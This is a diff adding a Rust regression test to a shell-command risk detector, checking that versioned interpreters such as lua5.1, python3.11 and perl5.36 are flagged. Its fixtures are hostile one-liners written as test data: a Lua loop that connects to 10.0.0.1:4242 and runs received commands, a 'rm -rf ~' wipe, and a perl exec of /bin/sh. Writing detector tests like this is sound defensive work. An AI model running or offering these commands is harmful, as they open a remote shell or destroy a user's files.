@@ -751,3 +751,21 @@ fn key_users_that_read_keys() {
     clean("git commit -m 'remove .env from tracking'");
     clean("docker cp web:/etc/app.conf ./app.conf");
 }
+
+/// Regression (issue 11, write-ups corpus tuning half): an interpreter run
+/// under a versioned name (`lua5.1`, `python3.11`) was not read as code.
+#[test]
+fn versioned_interpreters_are_interpreters() {
+    flagged(
+        "lua5.1 -e 'local s=require(\"socket\").tcp(); s:connect(\"10.0.0.1\",4242); while true do local c=s:receive(); local f=io.popen(c) end'",
+        Exfiltration,
+        Critical,
+    );
+    flagged(
+        "python3.11 -c 'import os; os.system(\"rm -rf ~\")'",
+        Destructive,
+        Critical,
+    );
+    flagged("perl5.36 -e 'exec \"/bin/sh\"'", Obfuscation, Medium);
+    clean("python3.12 -m pytest -q");
+}
